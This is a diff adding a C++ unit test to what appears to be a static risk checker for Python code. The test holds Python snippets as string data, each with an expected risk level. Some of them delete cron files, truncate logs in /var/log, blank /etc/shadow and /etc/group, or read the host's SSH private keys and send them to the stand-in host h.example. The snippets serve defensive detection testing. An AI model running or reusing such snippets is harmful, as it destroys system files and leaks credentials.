@@ -384,3 +384,43 @@ TEST(AssessDataFlow, FunctionsPassedAsValuesMeetTheDataTheyAreCalledWith) {
                   "with cf.ThreadPoolExecutor() as ex:\n    ex.submit(worker, 'report.csv')\n"),
             RiskLevel::medium);
 }
+
+TEST(AssessDataFlow, IteratedObjectsDefaultsAndReceiversGivenByTheCaller) {
+  // A class whose __iter__ yields system folders, walked by a helper that deletes what it finds.
+  EXPECT_EQ(level("import os\nclass Jobs:\n    def __init__(self, prefix='/etc'):\n        self.prefix = prefix\n"
+                  "    def __iter__(self):\n        for sub in ('cron.d', 'cron.daily'):\n"
+                  "            yield os.path.join(self.prefix, sub)\ndef purge(d):\n    for dp, _s, names in os.walk(d):\n"
+                  "        for n in names:\n            os.remove(os.path.join(dp, n))\n"
+                  "total = sum(purge(d) for d in Jobs())\n"),
+            RiskLevel::blocked);
+  // A list default of an argparse option; a file opened in place and truncated.
+  EXPECT_EQ(level("import argparse, glob, os\nap = argparse.ArgumentParser()\n"
+                  "ap.add_argument('--root', action='append', default=['/var/log'])\nargs = ap.parse_args()\n"
+                  "def empty(path):\n    open(path, 'r+b').truncate(0)\nfor r in args.root:\n"
+                  "    for p in glob.glob(os.path.join(r, '*.log')):\n        empty(p)\n"),
+            RiskLevel::blocked);
+  // os.sep + "etc" is /etc.
+  EXPECT_EQ(level("import os\netc = os.sep + 'etc'\nfor t in ('shadow', 'group'):\n"
+                  "    with open(os.path.join(etc, t), 'w') as fh:\n        fh.write('')\n"),
+            RiskLevel::blocked);
+  // A session handed to a helper is the session's method there.
+  EXPECT_EQ(level("import aiohttp, os\nasync def register(session, bundle):\n    await session.post('https://x.example/r', json=bundle)\n"
+                  "async def main():\n    bundle = {'cpu': open('/proc/cpuinfo').read()}\n"
+                  "    async with aiohttp.ClientSession() as s:\n        await register(s, bundle)\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import aiohttp\nasync def register(session, bundle):\n    await session.post('https://x.example/r', json=bundle)\n"
+                  "async def main():\n    async with aiohttp.ClientSession() as s:\n        await register(s, {'n': 1})\n"),
+            RiskLevel::medium);
+  // A tuple of host data unpacked from a function's return; the host's SSH private keys.
+  EXPECT_EQ(level("import socket\nfrom pathlib import Path\ndef snap():\n    return (Path('/proc') / 'loadavg').read_text(), 1\n"
+                  "load, n = snap()\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+                  "s.sendto(load.encode(), ('h.example', 514))\n"),
+            RiskLevel::high);
+  EXPECT_EQ(level("import glob, socket\nkeys = [open(p, 'rb').read() for p in glob.glob('/etc/ssh/ssh_host_*_key')]\n"
+                  "socket.create_connection(('h.example', 6443)).sendall(b''.join(keys))\n"),
+            RiskLevel::blocked);
+  // A docstring shown as the command's help is not code that runs.
+  EXPECT_EQ(level("\"\"\"Rules are literals (never eval'd): parsed with ast.literal_eval.\"\"\"\nimport argparse\n"
+                  "ap = argparse.ArgumentParser(description=__doc__)\nap.parse_args()\n"),
+            RiskLevel::low);
+}
